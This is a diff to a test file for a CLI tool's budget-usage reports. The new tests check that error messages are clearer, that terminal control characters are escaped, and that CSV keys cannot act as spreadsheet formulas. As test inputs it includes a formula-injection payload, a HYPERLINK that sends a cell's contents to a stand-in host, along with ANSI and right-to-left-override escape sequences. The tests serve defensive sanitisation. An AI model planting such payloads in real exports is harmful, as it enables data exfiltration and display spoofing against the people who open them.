@@ -82,10 +82,23 @@ describe('vsa why', () => {
 
   test('an unknown key and a row that cannot be read are errors', async () => {
     const path = await aStore(aFolder())
-    await expect(why(path, 'concert-44', NOON, 'UTC')).rejects.toMatchObject({ code: 'unknown_key' })
+    await expect(why(path, 'concert-44', NOON, 'UTC')).rejects.toMatchObject({
+      code: 'unknown_key',
+      message: expect.stringMatching(/has no budget called 'concert-44': no process has asked/) as string,
+    })
     await tamper(path, "UPDATE budget SET used = 9223372036854775000 WHERE key = 'concert-42'")
     await expect(why(path, 'concert-42', NOON, 'UTC')).rejects.toMatchObject({ code: 'row_damaged' })
   })
+})
+
+test('why and usage of a counter say that it is one', async () => {
+  const path = await aStore(aFolder())
+  const said = {
+    code: 'unknown_key',
+    message: expect.stringMatching(/'likes' is a counter, which has no limit.*vsa inspect/) as string,
+  }
+  await expect(why(path, 'likes', NOON, 'UTC')).rejects.toMatchObject(said)
+  await expect(usage(path, 'likes', { isCsv: false, rowsMax: 50, timeZone: 'UTC' })).rejects.toMatchObject(said)
 })
 
 describe('vsa usage', () => {
@@ -112,6 +125,30 @@ describe('vsa usage', () => {
       ['"a,b",,,5,5,1,0,0,0', '"say ""hi""",,,5,5,1,0,0,0', '"two', 'key,from,to,limit,minted,used,reserved,burned,leased', 'lines",,,5,5,1,0,0,0', 'plain,,,5,5,1,0,0,0'], // oxfmt-ignore
     )
     expect((await usage(path, undefined, { ...OPTIONS, rowsMax: 1 })).text).toContain('... and 3 more rows: see --rows')
+  })
+
+  test('CSV on a terminal has no control characters, and elsewhere the keys are as they are', async () => {
+    const path = join(aFolder(), 'store.db')
+    const vsa = open({ store: sqlite(path, { thread: false }), onEvent: () => undefined })
+    await vsa.budget('\u001b[2J,two\nlines\u202e', { initial: 5 }).admit()
+    await vsa.close()
+    const rest = ',,,5,5,1,0,0,0'
+    expect((await usage(path, undefined, CSV)).text).toContain(`"\u001b[2J,two\nlines\u202e"${rest}`)
+    const shown = (await usage(path, undefined, { ...CSV, isTerminal: true })).text
+    expect(shown.split('\n')[1]).toBe(String.raw`"\u{1b}[2J,two\u{a}lines\u{202e}"` + `${rest}`)
+  })
+
+  test('CSV for a spreadsheet has no key that is a formula', async () => {
+    const path = join(aFolder(), 'store.db')
+    const vsa = open({ store: sqlite(path, { thread: false }), onEvent: () => undefined })
+    const formulas = ['=HYPERLINK("http://x/?"&A1,"x")', '+1', '-1', '@SUM(1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠1'] // oxfmt-ignore
+    const plain = ['a=1', 'a;=1', "'a", 'a-1']
+    for (const key of [...formulas, ...plain]) await vsa.budget(key, { initial: 5 }).admit()
+    await vsa.close()
+    const { text } = await usage(path, undefined, { ...CSV, isForSpreadsheet: true })
+    const cells = [...text.matchAll(/"((?:[^"]|"")*)",,,5,5,1,0,0,0(?:\n|$)/g)].map(([, cell = '']) => cell)
+    expect(cells.toSorted()).toEqual([...formulas.map((key) => `'${key.replaceAll('"', '""')}`), ...plain].toSorted())
+    expect((await usage(path, '+1', CSV)).text).toContain('\n+1,,,5')
   })
 
   test('a row that cannot be read does not go unseen', async () => {
